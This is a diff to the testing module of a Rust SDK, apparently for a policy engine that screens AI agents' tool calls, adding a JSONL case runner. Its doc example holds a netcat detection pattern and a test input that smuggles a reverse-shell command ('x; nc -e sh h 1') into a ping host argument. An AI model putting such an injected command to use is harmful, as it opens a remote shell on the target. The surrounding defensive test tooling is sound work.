@@ -53,7 +53,7 @@ use serde_json::Value;
 
 use crate::{
     BuiltinDetector, Context, Finding, Matcher, Metadata, Outcome, Policy, Tool, ToolCall,
-    ToolResult,
+    ToolResult, Verdict,
 };
 
 /// A context for one test session.
@@ -138,6 +138,144 @@ pub fn check_call<P: Policy>(name: &str, arguments: Value) -> Outcome {
     let call = call(name, arguments);
     let findings = call_findings(&P::metadata(), &call);
     P::check_call(&context(), &call, &findings)
+}
+
+/// Runs `P` on every case of a `cases.jsonl` file natively, with the
+/// findings the host's prefilter gives it, and panics listing every case
+/// whose verdict or rule differs from what it expects.
+///
+/// The format is the one `portcullis policy test` reads, so the same file
+/// also runs through the real engine: one JSON object a line with an `id`, a
+/// `kind` (`tool_description` with `tool` and an optional `previous_tool`
+/// decided first in the same session, `tool_call` with `call`, or
+/// `tool_result` with `call` and `result`), the `expect`ed verdict and an
+/// optional `expect_rule` that must be among the reasons. Each case is a
+/// session of its own.
+///
+/// ```
+/// # use portcullis_sdk::{Context, EventKind, Finding, Metadata, Outcome, Pattern, Policy, ToolCall, Verdict, testing};
+/// struct NoNetcat;
+/// impl Policy for NoNetcat {
+///     fn metadata() -> Metadata {
+///         Metadata::new("no-netcat", "1")
+///             .on(EventKind::ToolCall)
+///             .pattern(Pattern::regex("netcat", r"\bnc\s+-e\b"))
+///     }
+///     fn check_call(_: &Context, _: &ToolCall, findings: &[Finding]) -> Outcome {
+///         match findings.first() {
+///             Some(_) => Outcome::with(Verdict::Deny, "netcat", "opens a shell"),
+///             None => Outcome::allow(),
+///         }
+///     }
+/// }
+/// testing::check_cases::<NoNetcat>(r#"
+/// {"id": "shell", "kind": "tool_call", "call": {"name": "ping", "arguments": {"host": "x; nc -e sh h 1"}}, "expect": "deny", "expect_rule": "netcat"}
+/// {"id": "plain", "kind": "tool_call", "call": {"name": "ping", "arguments": {"host": "example.org"}}, "expect": "allow"}
+/// "#);
+/// ```
+///
+/// # Panics
+/// When a case fails, or a line is not a case.
+pub fn check_cases<P: Policy>(cases: &str) {
+    let failures: Vec<String> = cases
+        .lines()
+        .enumerate()
+        .filter(|(_, line)| !line.trim().is_empty())
+        .filter_map(|(index, line)| {
+            let case: Value = serde_json::from_str(line)
+                .unwrap_or_else(|error| panic!("line {}: not JSON: {error}", index + 1));
+            let id = case["id"].to_string();
+            let outcome = run_case::<P>(&case)
+                .unwrap_or_else(|error| panic!("line {} ({id}): {error}", index + 1));
+            let expect = match case["expect"].as_str() {
+                Some("allow") => Verdict::Allow,
+                Some("escalate") => Verdict::Escalate,
+                Some("deny") => Verdict::Deny,
+                _ => panic!(
+                    "line {} ({id}): `expect` must be allow, escalate or deny",
+                    index + 1
+                ),
+            };
+            let rule = case["expect_rule"].as_str();
+            let rule_ok = rule.is_none_or(|rule| rules(&outcome).contains(&rule));
+            (outcome.verdict != expect || !rule_ok).then(|| {
+                format!(
+                    "line {} ({id}): expected {expect:?}{}, got {:?} {:?}",
+                    index + 1,
+                    rule.map(|rule| format!(" by {rule}")).unwrap_or_default(),
+                    outcome.verdict,
+                    rules(&outcome)
+                )
+            })
+        })
+        .collect();
+    assert!(
+        failures.is_empty(),
+        "cases failed:\n{}",
+        failures.join("\n")
+    );
+}
+
+/// Decides one case in a fresh session.
+fn run_case<P: Policy>(case: &Value) -> Result<Outcome, String> {
+    crate::state::clear();
+    let tool_of = |value: &Value| {
+        let text = |key: &str| value[key].as_str().unwrap_or_default().to_owned();
+        let object = |key: &str| match &value[key] {
+            Value::Null => Value::Object(Default::default()),
+            other => other.clone(),
+        };
+        tool(
+            &text("name"),
+            &text("description"),
+            object("inputSchema"),
+            object("annotations"),
+        )
+    };
+    let call_of = |case: &Value| {
+        let call = &case["call"];
+        let name = call["name"].as_str().ok_or("the case needs `call.name`")?;
+        let arguments = match &call["arguments"] {
+            Value::Null => Value::Object(Default::default()),
+            other => other.clone(),
+        };
+        Ok::<_, String>(self::call(name, arguments))
+    };
+    let metadata = P::metadata();
+    let context = context();
+    match case["kind"].as_str() {
+        Some("tool_description") => {
+            if !case["previous_tool"].is_null() {
+                let previous = tool_of(&case["previous_tool"]);
+                P::check_tool(&context, &previous, &tool_findings(&metadata, &previous));
+            }
+            let tool = tool_of(&case["tool"]);
+            Ok(P::check_tool(
+                &context,
+                &tool,
+                &tool_findings(&metadata, &tool),
+            ))
+        }
+        Some("tool_call") => {
+            let call = call_of(case)?;
+            Ok(P::check_call(
+                &context,
+                &call,
+                &call_findings(&metadata, &call),
+            ))
+        }
+        Some("tool_result") => {
+            let result = result(call_of(case)?, case["result"].clone());
+            Ok(P::check_result(
+                &context,
+                &result,
+                &result_findings(&metadata, &result),
+            ))
+        }
+        other => Err(format!(
+            "unknown kind {other:?}: expected tool_description, tool_call or tool_result"
+        )),
+    }
 }
 
 /// The rule of each reason of an outcome, in order.
